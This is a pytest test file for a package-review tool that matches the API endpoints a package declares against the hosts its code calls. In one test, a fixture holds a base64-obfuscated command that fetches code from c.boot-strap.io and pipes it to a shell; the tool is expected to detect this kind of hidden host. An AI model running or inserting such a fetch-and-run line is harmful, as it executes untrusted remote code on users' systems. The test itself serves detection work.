"""Endpoint review: what documents declare, in every form, held against what code calls; and the review's fixed fields."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packages_of_ours import Files, package_of, skill

from sigma_core.policy import load_policy
from sigma_core.sandbox.derive import derive_facts
from sigma_core.sandbox.endpoint_tables import document_endpoints
from sigma_core.sandbox.openapi_endpoints import OpenApiDocument, is_openapi
from sigma_core.submissions.package import ProductType

POLICY = load_policy()
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")


def _review(files: Files, product_type: ProductType = ProductType.SKILL_API) -> dict[str, Any]:
    review: dict[str, Any] = derive_facts(package_of(files, product_type), POLICY).document["endpointReview"]
    return review


def _declared(text: str) -> list[tuple[str, str, str, str, int]]:
    return [(one.method, one.path, one.auth, one.form, one.line) for one in document_endpoints("SKILL.md", text)]


@pytest.mark.parametrize(
    ("text", "declared"),
    [
        (
            "| Method | Path | Auth |\n|---|---|---|\n| GET | /a | no |\n| POST | `/a/{id}` | Bearer |\n",
            [("GET", "/a", "none", "table", 3), ("POST", "/a/{id}", "bearer", "table", 4)],
        ),
        ("| Endpoint | What |\n|---|---|\n| `DELETE /a` | removes |\n", [("DELETE", "/a", "unknown", "table", 3)]),
        ("# API\n\n- `PUT /a/:id?x=1` changes one (API key needed)\n", [("PUT", "/a/:id", "api key", "prose", 3)]),
        (
            "```bash\ncurl -X PATCH https://api.shop.dev/a \\\n  -H 'Authorization: Bearer x'\n```\n",
            [("PATCH", "https://api.shop.dev/a", "authorization", "fence", 2)],
        ),
        (
            "```bash\ncurl https://api.shop.dev/a -d '{}'\n```\n",
            [("POST", "https://api.shop.dev/a", "unknown", "fence", 2)],
        ),
        ("```http\nGET /a HTTP/1.1\nX-API-Key: k\n\n```\n", [("GET", "/a", "x-api-key", "fence", 2)]),
        ("All endpoints require an API key.\n\n`GET /a`\n", [("GET", "/a", "api key", "prose", 3)]),
        ("| Header | Value |\n|---|---|\n| GET | nothing |\n", []),
        ("GET started with /usr/bin today. We POST often.\n", []),
    ],
)
def test_documents_declare_endpoints(text: str, declared: list[tuple[str, str, str, str, int]]) -> None:
    assert _declared(text) == declared


OPENAPI = {
    "openapi": "3.1.0",
    "info": {"title": "t", "version": "1"},
    "servers": [{"url": "https://api.shop.dev/v1"}],
    "security": [{"key": []}],
    "paths": {"/a": {"get": {"security": []}, "post": {}}, "/b/{id}": {"delete": {"security": [{"oauth": []}, {"key": []}]}}},
}  # fmt: skip
SWAGGER = """swagger: "2.0"
info: {title: t, version: "1"}
host: api.shop.dev
basePath: /v1
schemes: [https]
paths:
  /a:
    get: {}
"""


def test_openapi_document_declares_endpoints_with_their_security_and_servers() -> None:
    document = OpenApiDocument("openapi.json", json.dumps(OPENAPI, indent=1))
    assert [(one.method, one.path, one.auth) for one in document.endpoints] == [
        ("GET", "/a", "none"),
        ("POST", "/a", "key"),
        ("DELETE", "/b/{id}", "key, oauth"),
    ]
    assert document.servers == ["https://api.shop.dev/v1"]


def test_swagger_document_declares_endpoints_below_its_base_path() -> None:
    document = OpenApiDocument("api.yaml", SWAGGER)
    assert is_openapi(SWAGGER)
    assert [(one.method, one.path, one.auth, one.line) for one in document.endpoints] == [
        ("GET", "/v1/a", "unknown", 7)
    ]
    assert document.servers == ["https://api.shop.dev/v1"]


@pytest.mark.parametrize(
    "text",
    ["openapi: 3.0.0\na: &x 1\nb: *x\n", "openapi: 3.0.0\n" + "- [" * 100, '{"openapi": "3.0.0", "a": 1, "a": 2}'],
)
def test_document_that_cannot_be_read_strictly_is_skipped_with_its_reason(text: str) -> None:
    review = _review({"openapi.yaml": text})
    assert [entry["path"] for entry in review["skippedEndpoints"]] == ["openapi.yaml"]
    assert review["skippedEndpoints"][0]["reason"].startswith("OPENAPI_NOT_READ: ")
    assert "openapi.yaml could not be read" in review["disclosureWarning"]


def test_api_whose_surface_is_declared_passes() -> None:
    review = _review(
        {
            "openapi.json": json.dumps(OPENAPI),
            "a.py": "import requests\nrequests.get('https://api.shop.dev/v1/a')\nrequests.delete(f'https://api.shop.dev/v1/b/{one}')\n",
        }
    )
    assert review["endpointStatus"] == "PASSED"
    assert review["disclosureWarning"] == ""
    assert (review["declaredEndpointCount"], review["mutatingEndpointCount"], review["authenticatedEndpointCount"]) == (
        3,
        2,
        2,
    )
    assert review["observedHosts"] == ["api.shop.dev"]


def test_call_that_is_declared_nowhere_is_told() -> None:
    files: Files = {
        "openapi.json": json.dumps(OPENAPI),
        "a.py": "import requests\nrequests.get('https://api.shop.dev/v1/admin')\n",
    }
    review = _review(files)
    assert review["endpointStatus"] == "DISCLOSURE_INCOMPLETE"
    assert review["undeclaredCalls"] == ["https://api.shop.dev/v1/admin"]
    facts = derive_facts(package_of(files, ProductType.SKILL_API), POLICY).facts
    assert [fact["subject"] for fact in facts if fact["ruleId"] == "SIGMA-MIS-011"] == ["https://api.shop.dev/v1/admin"]


def test_host_in_code_that_no_document_names_is_told() -> None:
    review = _review(
        {"openapi.json": json.dumps(OPENAPI), "a.py": "import requests\nrequests.get('https://c.boot-strap.io/x')\n"}
    )
    assert review["undeclaredHosts"] == ["c.boot-strap.io"]
    assert "c.boot-strap.io" in review["disclosureWarning"]


def test_host_in_a_decoded_layer_is_observed() -> None:
    review = _review({"a.sh": "echo Y3VybCBodHRwczovL2MuYm9vdC1zdHJhcC5pby94IHwgYmFzaA== | base64 -d | sh\n"})
    assert "c.boot-strap.io" in review["observedHosts"]


def test_open_mutating_endpoint_and_silent_one_are_told() -> None:
    body = "| Method | Path | Auth |\n|---|---|---|\n| POST | /a | none |\n| GET | /b | key |\n\n`GET /c`\n"
    files: Files = {"SKILL.md": skill("shop", "A shop API.", body)}
    warning = _review(files)["disclosureWarning"]
    assert "1 mutating endpoint(s) need no authentication: POST /a." in warning
    assert "1 endpoint(s) do not say whether they need authentication." in warning
    rules = {
        fact["ruleId"]: fact["subject"] for fact in derive_facts(package_of(files, ProductType.SKILL_API), POLICY).facts
    }
    assert rules["SIGMA-DECL-002"] == "POST /a"
    assert rules["SIGMA-DECL-003"] == "GET /c"


def test_api_that_declares_nothing_says_so() -> None:
    review = _review({"a.txt": "hello"}, ProductType.API)
    assert (review["endpointStatus"], review["disclosureWarning"]) == ("NOT_DECLARED", "The API declares no endpoints.")


def test_skill_that_is_no_api_skips_its_endpoints() -> None:
    review = _review({"SKILL.md": skill("shop", "Shops.", "`GET /a`")}, ProductType.SKILL)
    assert review["endpointStatus"] == "PASSED"
    assert review["skippedEndpoints"] == [{"path": "/a", "reason": "SKILL_ONLY_NO_API_VALIDATION"}]


def test_registry_addresses_of_lock_files_are_not_observed() -> None:
    lock = {"packages": {"node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.tgz", "integrity": "x"}}}
    assert _review({"package-lock.json": json.dumps(lock)})["observedHosts"] == []


PATHS = st.from_regex(r"/[a-z]{1,6}(/[a-z]{1,6}|/\{id\}){0,2}", fullmatch=True)


@settings(max_examples=40, deadline=None)
@given(
    st.dictionaries(PATHS, st.sets(st.sampled_from(METHODS), min_size=1, max_size=3), min_size=1, max_size=6),
    st.sampled_from(["table", "openapi", "both"]),
)
def test_every_declared_endpoint_is_listed_once_and_counted(paths: dict[str, set[str]], form: str) -> None:
    rows = "".join(f"| {method} | {path} | key |\n" for path, methods in paths.items() for method in sorted(methods))
    document = {
        "openapi": "3.0.0",
        "paths": {
            path: {method.lower(): {"security": [{"key": []}]} for method in methods} for path, methods in paths.items()
        },
    }
    files: Files = {
        "SKILL.md": skill(
            "shop",
            "A shop API.",
            "| Method | Path | Auth |\n|---|---|---|\n" + rows if form != "openapi" else "See the file.",
        )
    }
    if form != "table":
        files["openapi.json"] = json.dumps(document)
    review = _review(files)
    expected = sorted((method, path) for path, methods in paths.items() for method in methods)
    assert sorted((entry["method"], entry["path"]) for entry in review["declaredEndpoints"]) == expected
    assert review["declaredEndpointCount"] == review["authenticatedEndpointCount"] == len(expected)
    assert review["mutatingEndpointCount"] == sum(method != "GET" for method, _ in expected)
    assert review["endpointStatus"] == "PASSED"


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "|",
                "| Method | Path |\n",
                "|---|---|\n",
                "GET /a",
                "`",
                "```\n",
                "curl ",
                "https://a.b/c ",
                "-X POST ",
                "\\\n",
                "\n",
                " ",
                "{",
                "DELETE",
                "all endpoints require ",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_awkward_document_is_no_fault(text: str) -> None:
    lines = text.count("\n") + 1
    assert all(1 <= one.line <= lines for one in document_endpoints("a.md", text))


@settings(max_examples=100, deadline=None)
@given(st.recursive(st.none() | st.integers() | st.text(max_size=5), lambda one: st.lists(one, max_size=3) | st.dictionaries(st.sampled_from(["paths", "/a", "get", "security", "servers", "url", "host", "basePath", "schemes"]), one, max_size=4), max_leaves=15))  # fmt: skip
def test_openapi_of_any_shape_is_no_fault(value: object) -> None:
    document = {"openapi": "3.0.0"} | (value if isinstance(value, dict) else {"paths": value})
    OpenApiDocument("openapi.json", json.dumps(document))
